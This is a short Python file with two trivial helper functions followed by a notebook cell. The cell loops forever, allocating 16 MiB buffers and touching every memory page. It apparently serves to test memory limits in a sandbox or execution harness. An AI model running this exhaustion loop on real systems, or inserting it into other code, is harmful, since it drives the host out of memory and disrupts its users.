def double(number):
    return 2 * number


def steady():
    return "steady"
# %%
hoard = []
while True:
    hoard.append(bytearray(16 * 2**20))
    for page in range(0, len(hoard[-1]), 4096):
        hoard[-1][page] = 1
